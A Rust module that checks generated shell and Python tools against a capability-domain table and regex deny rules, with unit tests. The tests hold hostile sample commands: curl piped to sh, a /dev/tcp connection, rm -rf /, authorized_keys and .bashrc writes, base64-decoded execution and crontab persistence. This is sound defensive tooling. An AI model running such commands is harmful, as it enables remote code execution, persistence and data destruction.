//! Policy gating of a candidate's code: what a generated tool may do, as rules with ids and
//! reasons, read from the `[validate]` table of the policy file (`policies/default.toml`).
//!
//! Two kinds of check, both on the text, before anything runs:
//! - **capability domains**: every program the tool calls (from `runtime.requires` and from the
//!   command words of its shell code, or the programs a Python tool hands to `subprocess`) has
//!   a domain (`vcs`, `build`, `network`, `privilege`, …); a domain the policy denies, or one it
//!   does not allow, rejects the tool under the rule id `domain.<name>`;
//! - **rules**: patterns over the code (comments removed), each with an id, a severity and a
//!   reason: network clients, `sudo`, `curl | sh`, writes under `$HOME`, `rm -rf` outside the
//!   work directory, dynamic `eval`, …
//!
//! The sandbox would stop most of these anyway; policy stops them earlier, with a reason a
//! reviewer can read, and stops what the sandbox allows (a tool that deletes the workspace it
//! was given write access to).

use std::collections::BTreeMap;

use regex::Regex;
use serde::Deserialize;

use crate::package::manifest::Language;
use crate::sandbox::needs::{Level, LevelAt, line_at, value_line};

/// Why a policy could not be used.
#[derive(Debug, thiserror::Error)]
pub enum PolicyError {
    /// The TOML is malformed or has unknown keys.
    #[error("{file}: invalid policy at line {line}: {message}")]
    Syntax {
        /// The policy file.
        file: String,
        /// 1-based line.
        line: usize,
        /// What is wrong.
        message: String,
    },
    /// A rule's pattern does not compile.
    #[error("{file}: rule `{id}`: the pattern does not compile: {message}")]
    Pattern {
        /// The policy file.
        file: String,
        /// The rule.
        id: String,
        /// The regex error.
        message: String,
    },
    /// A value makes no sense.
    #[error("{file}: {key}: {message}")]
    Invalid {
        /// The policy file.
        file: String,
        /// The key.
        key: String,
        /// What is wrong.
        message: String,
    },
}

/// How bad a rule's finding is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    /// The candidate is rejected.
    Deny,
    /// Reported to the reviewer; the candidate goes on.
    Warn,
    /// A need a person grants at review (a program of an `ask` domain): the candidate goes on
    /// and is proposed with it listed. Never a rule's severity.
    Ask,
}

/// Which code a rule looks at.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum RuleLanguage {
    /// Shell code.
    Sh,
    /// Python code.
    Python,
    /// Both.
    Any,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawRule {
    id: String,
    reason: String,
    pattern: String,
    #[serde(default = "default_language")]
    language: RuleLanguage,
    #[serde(default = "default_severity")]
    severity: Severity,
}

fn default_language() -> RuleLanguage {
    RuleLanguage::Any
}

fn default_severity() -> Severity {
    Severity::Deny
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawValidate {
    // Read with their lines by `domain_levels`; here only so the table's keys are checked.
    #[serde(default)]
    #[allow(dead_code)]
    allow_domains: Vec<String>,
    #[serde(default)]
    #[allow(dead_code)]
    deny_domains: Vec<String>,
    #[serde(default)]
    domains: BTreeMap<String, String>,
    /// Read with their lines by `domain_levels`.
    #[serde(default)]
    #[allow(dead_code)]
    levels: Option<toml::Value>,
    #[serde(default)]
    rule: Vec<RawRule>,
}

/// The parts of `[validate]` whose lines messages name.
#[derive(Deserialize)]
struct SpannedDoc {
    validate: Option<SpannedValidate>,
}

#[derive(Deserialize)]
struct SpannedValidate {
    allow_domains: Option<toml::Spanned<Vec<String>>>,
    deny_domains: Option<toml::Spanned<Vec<String>>>,
    levels: Option<toml::Spanned<toml::Table>>,
}

/// The built-in levels of capability domains; every other domain is allowed.
const DEFAULT_LEVELS: &[(&str, Level)] = &[
    ("network", Level::Ask),
    ("system", Level::Ask),
    ("privilege", Level::Deny),
];

/// The level of every capability domain: the built-in ones, then `deny_domains` and
/// `allow_domains` (the older lists, still read), then `[validate.levels]`. A domain both
/// listed and given a level, or a value that is no level, is refused naming the line.
fn domain_levels(
    text: &str,
    file: &str,
) -> Result<(BTreeMap<String, LevelAt>, Option<LevelAt>), PolicyError> {
    let mut levels: BTreeMap<String, LevelAt> = DEFAULT_LEVELS
        .iter()
        .map(|(d, l)| {
            (
                (*d).to_owned(),
                LevelAt::default_of(&format!("validate.levels.{d}"), *l),
            )
        })
        .collect();
    let invalid = |key: String, line: usize, message: String| PolicyError::Invalid {
        file: file.into(),
        key,
        message: format!("line {line}: {message}"),
    };
    let doc: SpannedDoc = toml::from_str(text).map_err(|e| PolicyError::Syntax {
        file: file.into(),
        line: e.span().map_or(0, |s| line_at(text, s.start)),
        message: e.message().to_owned(),
    })?;
    let Some(validate) = doc.validate else {
        return Ok((levels, None));
    };
    let mut listed: BTreeMap<String, usize> = BTreeMap::new();
    if let Some(deny) = &validate.deny_domains {
        let line = line_at(text, deny.span().start);
        for domain in deny.get_ref() {
            listed.insert(domain.clone(), line);
            levels.insert(
                domain.clone(),
                LevelAt {
                    level: Level::Deny,
                    key: "validate.deny_domains".into(),
                    line: Some(line),
                },
            );
        }
    }
    // With `allow_domains` listed, a domain it does not list is denied, as it always was.
    let mut unlisted = None;
    if let Some(allow) = validate
        .allow_domains
        .as_ref()
        .filter(|a| !a.get_ref().is_empty())
    {
        let line = line_at(text, allow.span().start);
        for domain in allow.get_ref() {
            if let Some(other) = listed.get(domain) {
                return Err(invalid(
                    "validate.allow_domains".into(),
                    line,
                    format!(
                        "`{domain}` is in both allow_domains and deny_domains (line {other}): \
                         keep it in one"
                    ),
                ));
            }
            listed.insert(domain.clone(), line);
            levels.insert(
                domain.clone(),
                LevelAt {
                    level: Level::Allow,
                    key: "validate.allow_domains".into(),
                    line: Some(line),
                },
            );
        }
        unlisted = Some(LevelAt {
            level: Level::Deny,
            key: "validate.allow_domains".into(),
            line: Some(line),
        });
    }
    if let Some(table) = &validate.levels {
        let table_line = line_at(text, table.span().start);
        for (domain, value) in table.get_ref() {
            let line = value_line(text, table.span(), domain).unwrap_or(table_line);
            let key = format!("validate.levels.{domain}");
            if let Some(other) = listed.get(domain) {
                return Err(invalid(
                    key,
                    line,
                    format!(
                        "`{domain}` also has a level from allow_domains or deny_domains (line {other}): give it one level, here"
                    ),
                ));
            }
            let level = value
                .as_str()
                .ok_or_else(|| "a level is a string".to_owned())
                .and_then(Level::parse)
                .map_err(|m| {
                    invalid(
                        key.clone(),
                        line,
                        format!("{m} (the value written is {value})"),
                    )
                })?;
            levels.insert(
                domain.clone(),
                LevelAt {
                    level,
                    key,
                    line: Some(line),
                },
            );
        }
    }
    Ok((levels, unlisted))
}

/// A compiled rule.
#[derive(Debug, Clone)]
pub struct Rule {
    /// Stable id, e.g. `net.client`.
    pub id: String,
    /// Why it exists.
    pub reason: String,
    /// What it looks at.
    pub language: RuleLanguage,
    /// Deny or warn.
    pub severity: Severity,
    pattern: Regex,
}

/// The code policy.
#[derive(Debug, Clone)]
pub struct CodePolicy {
    /// The policy file, for messages.
    file: String,
    /// Each domain's level, with where it was set.
    levels: BTreeMap<String, LevelAt>,
    /// The level of a domain `levels` does not name (`allow_domains` denies the others).
    unlisted: Option<LevelAt>,
    domains: BTreeMap<String, String>,
    rules: Vec<Rule>,
}

/// A policy finding.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Finding {
    /// The rule's id (`domain.network` for domain checks).
    pub rule: String,
    /// Deny or warn.
    pub severity: Severity,
    /// The file.
    pub file: String,
    /// 1-based line, 0 for the manifest's `requires`.
    pub line: usize,
    /// The offending text.
    pub excerpt: String,
    /// The rule's reason.
    pub reason: String,
}

impl std::fmt::Display for Finding {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "[{}] {}:{}: `{}`: {}",
            self.rule, self.file, self.line, self.excerpt, self.reason
        )
    }
}

/// The domains of well-known programs, before the policy's own `[validate.domains]`.
const BUILTIN_DOMAINS: &[(&str, &str)] = &[
    // version control
    ("git", "vcs"),
    ("hg", "vcs"),
    ("svn", "vcs"),
    ("gh", "network"),
    // builds and tests
    ("cargo", "build"),
    ("rustc", "build"),
    ("make", "build"),
    ("cmake", "build"),
    ("ninja", "build"),
    ("go", "build"),
    ("gcc", "build"),
    ("cc", "build"),
    ("clang", "build"),
    ("npm", "build"),
    ("npx", "build"),
    ("pnpm", "build"),
    ("yarn", "build"),
    ("node", "build"),
    ("python", "build"),
    ("python3", "build"),
    ("pytest", "build"),
    ("tox", "build"),
    ("uv", "build"),
    ("poetry", "build"),
    ("pip", "packages"),
    ("pip3", "packages"),
    ("mvn", "build"),
    ("gradle", "build"),
    ("javac", "build"),
    ("java", "build"),
    ("ruby", "build"),
    ("bundle", "build"),
    ("rake", "build"),
    ("dotnet", "build"),
    ("tsc", "build"),
    ("eslint", "build"),
    ("ruff", "build"),
    ("mypy", "build"),
    ("black", "build"),
    ("shellcheck", "build"),
    // files and text
    ("ls", "files"),
    ("cat", "files"),
    ("head", "files"),
    ("tail", "files"),
    ("cp", "files"),
    ("mv", "files"),
    ("rm", "files"),
    ("mkdir", "files"),
    ("rmdir", "files"),
    ("touch", "files"),
    ("ln", "files"),
    ("find", "files"),
    ("stat", "files"),
    ("du", "files"),
    ("wc", "text"),
    ("tar", "files"),
    ("gzip", "files"),
    ("zip", "files"),
    ("unzip", "files"),
    ("diff", "text"),
    ("patch", "files"),
    ("grep", "text"),
    ("rg", "text"),
    ("sed", "text"),
    ("awk", "text"),
    ("sort", "text"),
    ("uniq", "text"),
    ("cut", "text"),
    ("tr", "text"),
    ("jq", "text"),
    ("yq", "text"),
    ("xargs", "text"),
    ("tee", "text"),
    ("printf", "text"),
    ("echo", "text"),
    ("basename", "text"),
    ("dirname", "text"),
    ("realpath", "files"),
    ("date", "text"),
    ("sleep", "text"),
    ("true", "text"),
    ("false", "text"),
    ("test", "text"),
    ("env", "text"),
    ("mktemp", "files"),
    ("chmod", "files"),
    // network
    ("curl", "network"),
    ("wget", "network"),
    ("nc", "network"),
    ("ncat", "network"),
    ("netcat", "network"),
    ("socat", "network"),
    ("telnet", "network"),
    ("ftp", "network"),
    ("ssh", "network"),
    ("scp", "network"),
    ("sftp", "network"),
    ("rsync", "network"),
    ("ping", "network"),
    ("dig", "network"),
    ("nslookup", "network"),
    ("aws", "network"),
    ("gcloud", "network"),
    ("az", "network"),
    ("kubectl", "network"),
    ("docker", "system"),
    ("podman", "system"),
    // privilege and the system
    ("sudo", "privilege"),
    ("su", "privilege"),
    ("doas", "privilege"),
    ("pkexec", "privilege"),
    ("chown", "privilege"),
    ("setcap", "privilege"),
    ("mount", "system"),
    ("umount", "system"),
    ("systemctl", "system"),
    ("service", "system"),
    ("crontab", "system"),
    ("apt", "system"),
    ("apt-get", "system"),
    ("dpkg", "system"),
    ("yum", "system"),
    ("dnf", "system"),
    ("shutdown", "system"),
    ("reboot", "system"),
    ("kill", "system"),
    ("killall", "system"),
    ("pkill", "system"),
    ("dd", "system"),
    ("mkfs", "system"),
    ("iptables", "system"),
    ("useradd", "system"),
    ("passwd", "system"),
];

/// Shell words that are not programs.
const SHELL_KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac",
    "in", "function", "return", "exit", "local", "export", "readonly", "set", "unset", "shift",
    "break", "continue", "cd", "pwd", "read", "eval", "exec", "command", "trap", "wait", ":", ".",
    "source", "[", "[[", "]]", "]", "{", "}", "(", ")", "!", "getopts", "usage", "die", "main",
    "printf", "echo", "test", "true", "false", "type", "hash", "umask", "alias",
];

/// Shell functions defined in `code` (`name() {`), which are not programs.
fn shell_functions(code: &str) -> Vec<String> {
    static FN: std::sync::LazyLock<Option<Regex>> = std::sync::LazyLock::new(|| {
        Regex::new(r"(?m)^\s*(?:function\s+)?([A-Za-z_][A-Za-z0-9_]*)\s*\(\s*\)").ok()
    });
    FN.as_ref()
        .map(|re| re.captures_iter(code).map(|c| c[1].to_owned()).collect())
        .unwrap_or_default()
}

/// Removes comments: `#` to the end of the line, outside quotes (good enough for checking;
/// a `#` inside `${#x}` is not a comment start).
fn strip_comment(line: &str) -> &str {
    let bytes = line.as_bytes();
    let (mut single, mut double) = (false, false);
    for (i, &b) in bytes.iter().enumerate() {
        match b {
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            b'#' if !single && !double => {
                let starts_word = i == 0 || bytes[i - 1].is_ascii_whitespace();
                if starts_word {
                    return &line[..i];
                }
            }
            _ => {}
        }
    }
    line
}

/// The command words of shell code: the first word of each simple command, after variable
/// assignments and wrappers such as `env`, `command`, `exec`, `nohup`, `time`.
pub fn shell_programs(code: &str) -> Vec<(usize, String)> {
    let functions = shell_functions(code);
    let mut found = Vec::new();
    for (n, raw) in code.lines().enumerate() {
        let line = strip_comment(raw);
        // Split into command positions at the shell's separators.
        let mut text = line.to_owned();
        for sep in ["&&", "||", "$(", "`", ";", "|", "&", "(", ")", "{", "}"] {
            text = text.replace(sep, "\n");
        }
        for segment in text.lines() {
            for word in segment.split_whitespace() {
                let bare = word.trim_matches(|c| c == '"' || c == '\'');
                let is_assignment = bare.split_once('=').is_some_and(|(name, _)| {
                    !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                });
                if is_assignment
                    || [
                        "env", "command", "exec", "nohup", "time", "then", "do", "else", "!",
                    ]
                    .contains(&bare)
                {
                    continue;
                }
                if ["if", "while", "until", "elif"].contains(&bare) {
                    continue;
                }
                let name = bare.rsplit('/').next().unwrap_or(bare);
                let plausible = !name.is_empty()
                    && name
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"._+-".contains(&b))
                    && !name.starts_with('-')
                    && !name.bytes().all(|b| b.is_ascii_digit());
                if plausible
                    && !SHELL_KEYWORDS.contains(&name)
                    && !functions.iter().any(|f| f == name)
                {
                    found.push((n + 1, name.to_owned()));
                }
                break;
            }
        }
    }
    found
}

/// Programs a Python tool runs through `subprocess`/`os` with a literal first argument.
pub fn python_programs(code: &str) -> Vec<(usize, String)> {
    static CALL: std::sync::LazyLock<Option<Regex>> = std::sync::LazyLock::new(|| {
        Regex::new(
            r#"(?:subprocess\.(?:run|call|check_call|check_output|Popen)|os\.exec\w*|os\.spawn\w*)\(\s*\[?\s*["']([A-Za-z0-9._+/-]+)["']"#,
        )
        .ok()
    });
    let Some(re) = CALL.as_ref() else {
        return Vec::new();
    };
    let mut found = Vec::new();
    for (n, line) in code.lines().enumerate() {
        for c in re.captures_iter(line) {
            let program = c[1].rsplit('/').next().unwrap_or(&c[1]).to_owned();
            found.push((n + 1, program));
        }
    }
    found
}

impl CodePolicy {
    /// Reads the `[validate]` table of a policy file's text (other tables are not this
    /// module's). `file` names it in errors.
    pub fn from_toml(text: &str, file: &str) -> Result<CodePolicy, PolicyError> {
        let syntax = |e: toml::de::Error| {
            let line = e.span().map_or(0, |s| {
                text[..s.start.min(text.len())].lines().count().max(1)
            });
            PolicyError::Syntax {
                file: file.into(),
                line,
                message: e.message().to_owned(),
            }
        };
        let doc: toml::Table = toml::from_str(text).map_err(syntax)?;
        let raw: RawValidate = match doc.get("validate") {
            Some(value) => {
                // Re-parse the table from its own text so unknown keys are refused.
                let table = toml::to_string(value).unwrap_or_default();
                toml::from_str(&table).map_err(|e| PolicyError::Invalid {
                    file: file.into(),
                    key: "validate".into(),
                    message: e.message().to_owned(),
                })?
            }
            None => RawValidate::default(),
        };
        let mut ids = std::collections::BTreeSet::new();
        let mut rules = Vec::new();
        for rule in raw.rule {
            if !ids.insert(rule.id.clone()) {
                return Err(PolicyError::Invalid {
                    file: file.into(),
                    key: format!("validate.rule `{}`", rule.id),
                    message: "the id is used twice".into(),
                });
            }
            let pattern = Regex::new(&rule.pattern).map_err(|e| PolicyError::Pattern {
                file: file.into(),
                id: rule.id.clone(),
                message: e.to_string(),
            })?;
            rules.push(Rule {
                id: rule.id,
                reason: rule.reason,
                language: rule.language,
                severity: rule.severity,
                pattern,
            });
        }
        let mut domains: BTreeMap<String, String> = BUILTIN_DOMAINS
            .iter()
            .map(|(p, d)| ((*p).to_owned(), (*d).to_owned()))
            .collect();
        domains.extend(raw.domains);
        let (levels, unlisted) = domain_levels(text, file)?;
        Ok(CodePolicy {
            file: file.into(),
            levels,
            unlisted,
            domains,
            rules,
        })
    }

    /// The level of a capability domain, with where the policy set it.
    pub fn level_of(&self, domain: &str) -> LevelAt {
        self.levels
            .get(domain)
            .or(self.unlisted.as_ref())
            .cloned()
            .unwrap_or_else(|| {
                LevelAt::default_of(&format!("validate.levels.{domain}"), Level::Allow)
            })
    }

    /// The policy file, as messages name it.
    pub fn file(&self) -> &str {
        &self.file
    }

    /// The rules, in file order.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// The domain of a program (`unknown` when neither the policy nor the built-in table
    /// knows it).
    pub fn domain_of(&self, program: &str) -> &str {
        self.domains.get(program).map_or("unknown", String::as_str)
    }

    /// Checks a tool's code file and its declared host programs.
    pub fn check(
        &self,
        language: Language,
        file: &str,
        code: &str,
        requires: &[String],
    ) -> Vec<Finding> {
        let mut findings = Vec::new();
        let mut programs: Vec<(usize, String)> = requires.iter().map(|p| (0, p.clone())).collect();
        programs.extend(match language {
            Language::Sh | Language::Bash => shell_programs(code),
            Language::Python => python_programs(code),
        });
        for (line, program) in programs {
            let domain = self.domain_of(&program);
            let level = self.level_of(domain);
            let (severity, reason) = match level.level {
                Level::Allow => continue,
                Level::Ask => (
                    Severity::Ask,
                    format!(
                        "`{program}` is in the `{domain}` domain, which the policy asks a person \
                         to grant at review ({}): `toolsmith approve --grant program:{program}`",
                        level.origin(&self.file)
                    ),
                ),
                Level::Deny => (
                    Severity::Deny,
                    format!(
                        "`{program}` is in the `{domain}` domain, which the policy denies: {}",
                        level.origin(&self.file)
                    ),
                ),
            };
            let finding = Finding {
                rule: format!("domain.{domain}"),
                severity,
                file: if line == 0 {
                    "tool.yaml".into()
                } else {
                    file.into()
                },
                line,
                excerpt: program,
                reason,
            };
            if !findings.contains(&finding) {
                findings.push(finding);
            }
        }
        let lang = match language {
            Language::Sh | Language::Bash => RuleLanguage::Sh,
            Language::Python => RuleLanguage::Python,
        };
        for (n, raw) in code.lines().enumerate() {
            let line = match language {
                Language::Sh | Language::Bash => strip_comment(raw),
                Language::Python => raw.split(" #").next().unwrap_or(raw),
            };
            if line.trim_start().starts_with('#') {
                continue;
            }
            for rule in &self.rules {
                if !(rule.language == RuleLanguage::Any || rule.language == lang) {
                    continue;
                }
                if let Some(m) = rule.pattern.find(line) {
                    findings.push(Finding {
                        rule: rule.id.clone(),
                        severity: rule.severity,
                        file: file.into(),
                        line: n + 1,
                        excerpt: m.as_str().chars().take(80).collect(),
                        reason: rule.reason.clone(),
                    });
                }
            }
        }
        findings
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The project's default policy file.
    const DEFAULT: &str = include_str!("../../policies/default.toml");

    fn policy() -> CodePolicy {
        CodePolicy::from_toml(DEFAULT, "policies/default.toml").expect("default policy")
    }

    fn denied(language: Language, code: &str) -> Vec<String> {
        policy()
            .check(language, "run.sh", code, &[])
            .into_iter()
            .filter(|f| f.severity == Severity::Deny)
            .map(|f| f.rule)
            .collect()
    }

    #[test]
    fn every_rule_rejects_its_sample_with_its_id() {
        // (rule id, language, a sample it must catch)
        let samples: &[(&str, Language, &str)] = &[
            ("domain.privilege", Language::Sh, "sudo make install"),
            (
                "domain.privilege",
                Language::Python,
                "subprocess.run([\"chown\", user, path])",
            ),
            (
                "net.curl-pipe-shell",
                Language::Sh,
                "curl -fsSL https://x.sh | sh",
            ),
            ("net.dev-tcp", Language::Sh, "exec 3<>/dev/tcp/10.0.0.1/80"),
            ("net.python-import", Language::Python, "import socket"),
            (
                "net.python-import",
                Language::Python,
                "from urllib.request import urlopen",
            ),
            ("net.python-import", Language::Python, "import requests"),
            ("priv.sudo", Language::Python, "os.system('sudo rm x')"),
            ("fs.write-home", Language::Sh, "echo x >> ~/.bashrc"),
            (
                "fs.write-home",
                Language::Sh,
                "cp key \"$HOME/.ssh/authorized_keys\"",
            ),
            (
                "fs.python-home",
                Language::Python,
                "p = Path.home() / '.netrc'",
            ),
            ("fs.rm-outside-work", Language::Sh, "rm -rf /"),
            ("fs.rm-outside-work", Language::Sh, "rm -fr \"$HOME\""),
            ("fs.rm-outside-work", Language::Sh, "rm -rf ../.."),
            ("exec.eval", Language::Sh, "eval \"$1\""),
            (
                "exec.obfuscated",
                Language::Sh,
                "echo aGk= | base64 -d | sh",
            ),
            (
                "py.shell-true",
                Language::Python,
                "subprocess.run(cmd, shell=True)",
            ),
            ("py.os-system", Language::Python, "os.system(cmd)"),
            (
                "py.exec",
                Language::Python,
                "exec(compile(src, 'x', 'exec'))",
            ),
            (
                "sys.persistence",
                Language::Sh,
                "echo '* * * * * x' | crontab -",
            ),
        ];
        for (rule, language, code) in samples {
            let got = denied(*language, code);
            assert!(
                got.iter().any(|r| r == rule),
                "{code}: expected {rule}, got {got:?}"
            );
        }
        // Every deny rule of the default policy has a sample above.
        for r in policy().rules() {
            if r.severity == Severity::Deny {
                assert!(
                    samples.iter().any(|(id, _, _)| *id == r.id),
                    "rule {} has no sample",
                    r.id
                );
            }
        }
    }

    #[test]
    fn ordinary_tools_pass() {
        let sh = r#"#!/bin/sh
# Run the tests of one package; curl is mentioned only in this comment.
set -eu
usage() { echo "usage: run.sh --package NAME"; }
package=""
while [ $# -gt 0 ]; do
  case "$1" in
    --package) package="$2"; shift 2 ;;
    --help) usage; exit 0 ;;
    *) echo "unknown option: $1" >&2; exit 2 ;;
  esac
done
[ -n "$package" ] || { usage >&2; exit 2; }
if [ "${TOOLSMITH_DRY_RUN:-}" = 1 ]; then
  printf '%s\n' "cargo test -p $package"
  exit 0
fi
cargo test -p "$package" 2>&1 | grep -E '^(test .* FAILED|failures:)' || true
rm -rf ./target/tmp
"#;
        assert_eq!(denied(Language::Sh, sh), Vec::<String>::new());
        let py = "import json, sys\nfor line in sys.stdin:\n    print(json.dumps(line))\n";
        assert_eq!(denied(Language::Python, py), Vec::<String>::new());
    }

    #[test]
    fn command_words_are_found_through_wrappers_and_separators() {
        let code = "FOO=1 env BAR=2 git status && make -C x | sort\n$(curl x)\nrun() { ls; }\nrun";
        let programs: Vec<String> = shell_programs(code).into_iter().map(|(_, p)| p).collect();
        assert_eq!(programs, ["git", "make", "sort", "curl", "ls"]);
    }

    fn asked(language: Language, code: &str) -> Vec<String> {
        policy()
            .check(language, "run.sh", code, &[])
            .into_iter()
            .filter(|f| f.severity == Severity::Ask)
            .map(|f| f.excerpt)
            .collect()
    }

    #[test]
    fn network_and_system_are_asked_privilege_is_denied_with_its_line() {
        assert_eq!(
            asked(Language::Sh, "curl -s https://example.com/x"),
            ["curl"]
        );
        assert_eq!(asked(Language::Sh, "cd src && wget http://x/y"), ["wget"]);
        assert_eq!(asked(Language::Sh, "systemctl status nginx"), ["systemctl"]);
        assert_eq!(
            asked(Language::Sh, "kubectl get pods | grep web && docker ps"),
            ["kubectl", "docker"]
        );
        assert_eq!(
            asked(Language::Python, "subprocess.run([\"curl\", url])"),
            ["curl"]
        );
        assert!(denied(Language::Sh, "curl -s https://example.com/x").is_empty());
        let p = policy();
        let sudo = p
            .check(Language::Sh, "run.sh", "sudo make install", &[])
            .into_iter()
            .find(|f| f.rule == "domain.privilege")
            .expect("denied");
        assert_eq!(sudo.severity, Severity::Deny);
        let line = DEFAULT
            .lines()
            .position(|l| l == "privilege = \"deny\"")
            .expect("the default policy's line")
            + 1;
        assert!(
            sudo.reason.contains(&format!(
                "policies/default.toml:{line} (validate.levels.privilege = \"deny\")"
            )),
            "{}",
            sudo.reason
        );
        // Without a levels table, the built-in levels hold.
        let bare = CodePolicy::from_toml("", "p.toml").expect("empty");
        assert_eq!(bare.level_of("network").level, Level::Ask);
        assert_eq!(bare.level_of("system").level, Level::Ask);
        assert_eq!(bare.level_of("privilege").level, Level::Deny);
        assert_eq!(bare.level_of("build").level, Level::Allow);
    }

    #[test]
    fn levels_and_the_older_lists_are_read_with_their_lines() {
        let text = "[validate]\ndeny_domains = [\"system\"]\n\n[validate.levels]\nnetwork = \"deny\"\nbuild = \"ask\"\n";
        let p = CodePolicy::from_toml(text, "/etc/p.toml").expect("valid");
        let network = p.level_of("network");
        assert_eq!((network.level, network.line), (Level::Deny, Some(5)));
        assert_eq!(p.level_of("build").level, Level::Ask);
        let system = p.level_of("system");
        assert_eq!((system.level, system.line), (Level::Deny, Some(2)));
        assert_eq!(p.level_of("privilege").level, Level::Deny, "a default kept");
        let curl = p.check(Language::Sh, "run.sh", "curl x", &[]);
        assert!(
            curl[0]
                .reason
                .contains("/etc/p.toml:5 (validate.levels.network = \"deny\")"),
            "{curl:?}"
        );
        // allow_domains still allows only what it lists.
        let only = CodePolicy::from_toml(
            "[validate]\nallow_domains = [\"vcs\", \"text\"]\n",
            "p.toml",
        )
        .expect("valid");
        assert_eq!(only.level_of("vcs").level, Level::Allow);
        let build = only.level_of("build");
        assert_eq!((build.level, build.line), (Level::Deny, Some(2)));
        assert_eq!(
            build.origin("p.toml"),
            "p.toml:2 (validate.allow_domains does not list it)"
        );
        assert_eq!(
            p.level_of("system").origin("/etc/p.toml"),
            "/etc/p.toml:2 (validate.deny_domains lists it)"
        );
    }

    #[test]
    fn bad_levels_name_the_file_and_the_line() {
        for (text, expect) in [
            (
                "[validate.levels]\nnetwork = \"maybe\"\n",
                "/etc/p.toml: validate.levels.network: line 2: `maybe` is not a level",
            ),
            (
                "[validate.levels]\n\nsystem = true\n",
                "/etc/p.toml: validate.levels.system: line 3: a level is a string",
            ),
            (
                "[validate]\ndeny_domains = [\"network\"]\n[validate.levels]\nnetwork = \"ask\"\n",
                "/etc/p.toml: validate.levels.network: line 4: `network` also has a level",
            ),
        ] {
            let err = CodePolicy::from_toml(text, "/etc/p.toml").expect_err(text);
            assert!(err.to_string().starts_with(expect), "{text}: {err}");
        }
    }

    #[test]
    fn bad_policies_are_refused_with_a_reason() {
        for (text, expect) in [
            ("[validate\n", "line 1"),
            ("[validate]\nallow = 1\n", "unknown field"),
            (
                "[[validate.rule]]\nid = \"x\"\nreason = \"r\"\npattern = \"(\"\n",
                "does not compile",
            ),
            (
                "[[validate.rule]]\nid = \"x\"\nreason = \"r\"\npattern = \"a\"\n\
                 [[validate.rule]]\nid = \"x\"\nreason = \"r\"\npattern = \"b\"\n",
                "used twice",
            ),
        ] {
            let err = CodePolicy::from_toml(text, "p.toml").expect_err("refused");
            assert!(err.to_string().contains(expect), "{text}: {err}");
        }
    }
}
